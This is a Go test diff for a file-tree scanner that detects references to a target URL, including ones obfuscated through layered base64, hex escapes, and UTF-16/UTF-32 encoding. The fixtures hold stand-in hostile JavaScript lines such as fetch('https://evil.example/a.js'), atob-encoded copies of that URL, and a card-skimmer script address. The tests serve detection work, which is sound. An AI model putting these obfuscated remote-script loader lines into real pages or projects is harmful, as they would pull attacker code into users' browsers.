@@ -2,6 +2,8 @@ package tree_test
 
 import (
 	"context"
+	"encoding/base64"
+	"encoding/binary"
 	"fmt"
 	"io/fs"
 	"os"
@@ -9,6 +11,7 @@ import (
 	"strings"
 	"testing"
 	"testing/fstest"
+	"unicode/utf16"
 
 	"github.com/google/go-cmp/cmp"
 
@@ -286,5 +289,186 @@ func TestIgnoredRootScanned(t *testing.T) {
 	}
 	if len(rep.Findings) != 1 {
 		t.Errorf("findings = %v, want the reference in the named directory", places(rep))
+	}
+}
+
+// hexEscape spells every byte of s as \xHH.
+func hexEscape(s string) string {
+	var b strings.Builder
+	for i := range len(s) {
+		fmt.Fprintf(&b, `\x%02x`, s[i])
+	}
+	return b.String()
+}
+
+// TestDecodeLimits: a reference past the decoder's literal window is found, and a limit that is
+// still reached (an encoding nested deeper than the layers decoded) is listed as a partial
+// decode-limit skip with its line, never passed over in silence.
+func TestDecodeLimits(t *testing.T) {
+	const url = "https://skim.evil-cdn.example/c.js"
+	deep := url // 10 layers alternating atob('…') and an escaped literal
+	for k := range 10 {
+		if k%2 == 0 {
+			deep = "atob('" + base64.StdEncoding.EncodeToString([]byte(deep)) + "')"
+		} else {
+			deep = "'" + hexEscape(deep) + "'"
+		}
+	}
+	nest := url
+	for range 30 {
+		nest = base64.StdEncoding.EncodeToString([]byte(nest))
+	}
+	fsys := fstest.MapFS{
+		"long.js":   {Data: []byte("var a = 1;\nvar b = '" + strings.Repeat(`\x41`, 1<<18) + hexEscape(url) + "';\n")},
+		"uni.js":    {Data: []byte("var b = \"" + strings.Repeat(`\u0041`, 1<<18+1) + hexEscape(url) + "\";\n")},
+		"nest30.js": {Data: []byte("// thirty layers\nx = '" + nest + "';\n")},
+		"deep.js":   {Data: []byte("// ten layers\nx = " + deep + ";\n")},
+	}
+	rep := scan(t, fsys, tree.Options{}, scanner.Options{Decode: true}, url)
+	want := []string{
+		"long.js:2:10-1048722 encoded-reference error url other",
+		"nest30.js:2:6-216722 encoded-reference error url other",
+		"uni.js:1:10-1573016 encoded-reference error url other",
+	}
+	if diff := cmp.Diff(want, places(rep)); diff != "" {
+		t.Errorf("findings mismatch (-want +got):\n%s", diff)
+	}
+	wantSkips := []report.Skip{{Path: "deep.js", Reason: scanner.SkipDecodeLimit,
+		Detail: "scanned for plain references; decoding stopped at line 2 (depth: encoded text nested deeper than the layers decoded)"}}
+	if diff := cmp.Diff(wantSkips, rep.Skipped); diff != "" {
+		t.Errorf("skipped mismatch (-want +got):\n%s", diff)
+	}
+}
+
+// utf16or32 spells s in UTF-16 (width 2) or UTF-32 (width 4), little or big endian, with a
+// byte-order mark when bom is set.
+func utf16or32(s string, width int, bigEndian, bom bool) []byte {
+	var order binary.AppendByteOrder = binary.LittleEndian
+	if bigEndian {
+		order = binary.BigEndian
+	}
+	if bom {
+		s = "\uFEFF" + s
+	}
+	var out []byte
+	for _, r := range s {
+		switch {
+		case width == 4:
+			out = order.AppendUint32(out, uint32(r))
+		case r >= 0x10000:
+			r1, r2 := utf16.EncodeRune(r)
+			out = order.AppendUint16(order.AppendUint16(out, uint16(r1)), uint16(r2))
+		default:
+			out = order.AppendUint16(out, uint16(r))
+		}
+	}
+	return out
+}
+
+// TestUnicodeFiles: UTF-16 and UTF-32 files are scanned as text, plain and encoded references
+// alike, at the lines and columns of the file's own characters (an emoji is one column, as in
+// a UTF-8 file; a byte-order mark none).
+func TestUnicodeFiles(t *testing.T) {
+	t.Parallel()
+	text := "x = 1;\n// é ünïcode 😀 line\r\nlet u = '😀'; fetch('https://evil.example/a.js');\n" +
+		"var 名 = atob('aHR0cHM6Ly9ldmlsLmV4YW1wbGUvYS5qcw==');\n"
+	want := []string{
+		"f.js:3:21-46 declared-reference note url js-network",
+		"f.js:4:9-53 encoded-reference error url other",
+	}
+	tests := []struct {
+		name string
+		data []byte
+	}{
+		{"utf-8", []byte(text)},
+		{"utf-8 with bom", []byte("\uFEFF" + text)},
+		{"utf-16le with bom", utf16or32(text, 2, false, true)},
+		{"utf-16be with bom", utf16or32(text, 2, true, true)},
+		{"utf-16le without bom", utf16or32(text, 2, false, false)},
+		{"utf-16be without bom", utf16or32(text, 2, true, false)},
+		{"utf-32le with bom", utf16or32(text, 4, false, true)},
+		{"utf-32be with bom", utf16or32(text, 4, true, true)},
+		{"utf-32le without bom", utf16or32(text, 4, false, false)},
+		{"utf-32be without bom", utf16or32(text, 4, true, false)},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			t.Parallel()
+			fsys := fstest.MapFS{
+				"f.js":     {Data: tt.data},
+				"logo.png": {Data: []byte("\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR https://evil.example/a.js")},
+			}
+			rep := scan(t, fsys, tree.Options{}, scanner.Options{Decode: true}, "https://evil.example/a.js")
+			if diff := cmp.Diff(want, places(rep)); diff != "" {
+				t.Errorf("findings mismatch (-want +got):\n%s", diff)
+			}
+			wantSkips := []report.Skip{{Path: "logo.png", Reason: scanner.SkipBinary, Detail: "NUL byte in the first 8 KiB"}}
+			if diff := cmp.Diff(wantSkips, rep.Skipped); diff != "" {
+				t.Errorf("skipped mismatch (-want +got):\n%s", diff)
+			}
+			if got, want := rep.Findings[0].Snippet, "let u = '😀'; fetch('https://evil.example/a.js');"; got != want {
+				t.Errorf("snippet = %q, want %q", got, want)
+			}
+		})
+	}
+}
+
+func blob(data []byte) scanner.Blob {
+	return scanner.Blob{Path: "f", Size: int64(len(data)), Load: func() ([]byte, error) { return data, nil }}
+}
+
+// TestReadUnicode: UTF-16 and UTF-32 text is read as UTF-8, without its byte-order mark; genuine
+// binaries stay binary.
+func TestReadUnicode(t *testing.T) {
+	t.Parallel()
+	text := "x = 1;\n// é ünïcode 😀 line\r\nfetch('https://evil.example/a.js');\n"
+	cjk := "var 名前 = '値'; // 日本語のコメント\n"
+	tests := []struct {
+		name string
+		in   []byte
+		want string // "" for binary
+	}{
+		{"utf-8", []byte(text), text},
+		{"utf-16le with bom", utf16or32(text, 2, false, true), text},
+		{"utf-16be with bom", utf16or32(text, 2, true, true), text},
+		{"utf-16le without bom", utf16or32(text, 2, false, false), text},
+		{"utf-16be without bom", utf16or32(text, 2, true, false), text},
+		{"utf-32le with bom", utf16or32(text, 4, false, true), text},
+		{"utf-32be with bom", utf16or32(text, 4, true, true), text},
+		{"utf-32le without bom", utf16or32(text, 4, false, false), text},
+		{"utf-32be without bom", utf16or32(text, 4, true, false), text},
+		{"utf-16le cjk with bom", utf16or32(cjk, 2, false, true), cjk},
+		{"utf-16be cjk with bom", utf16or32(cjk, 2, true, true), cjk},
+		{"utf-16 past the sniffed head", utf16or32(strings.Repeat("a = 'b';\n", 1000)+"😀 evil.example\n", 2, false, false),
+			strings.Repeat("a = 'b';\n", 1000) + "😀 evil.example\n"},
+		{"utf-16 with a lone surrogate past the head", append(utf16or32(strings.Repeat("ab\n", 2000), 2, false, true), 0x00, 0xD8, 'c', 0),
+			strings.Repeat("ab\n", 2000) + "\uFFFDc"},
+		{"png", []byte("\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x10\x00\x00\x00\x10\x08\x06\x00\x00\x00\x1f\xf3\xffa"), ""},
+		{"elf", []byte("\x7fELF\x02\x01\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00\x02\x00>\x00\x01\x00\x00\x00"), ""},
+		{"nul run", []byte("abc\x00\x00\x00\x00def"), ""},
+		{"utf-16 with a NUL character", utf16or32("ab\x00cd\n", 2, false, false), ""},
+		{"utf-16 bom then binary", []byte{0xFF, 0xFE, 'a', 0, 0, 0, 1, 2, 3, 0}, ""},
+		{"utf-32 bom then binary", []byte{0xFF, 0xFE, 0, 0, 0, 0, 0x11, 0, 1, 2, 3, 4}, ""},
+		{"utf-16 without bom, odd length", append(utf16or32("abcdef\n", 2, false, false), 'x'), ""},
+		{"utf-16 without bom, mostly non-latin", utf16or32("名前名前名前 ab", 2, false, false), ""},
+		{"control characters", utf16or32("ab\x01\x02\x03\n", 2, false, false), ""},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			t.Parallel()
+			data, skip, why := scanner.Read(blob(tt.in), scanner.DefaultMaxFileSize)
+			if tt.want == "" {
+				if skip != scanner.SkipBinary {
+					t.Errorf("Read(%q) = %q, %q, %q, want skip %q", tt.in, data, skip, why, scanner.SkipBinary)
+				}
+				return
+			}
+			if skip != "" {
+				t.Fatalf("Read(%q) skipped: %s (%s)", tt.in, skip, why)
+			}
+			if diff := cmp.Diff(tt.want, string(data)); diff != "" {
+				t.Errorf("Read(%s) mismatch (-want +got):\n%s", tt.name, diff)
+			}
+		})
 	}
 }
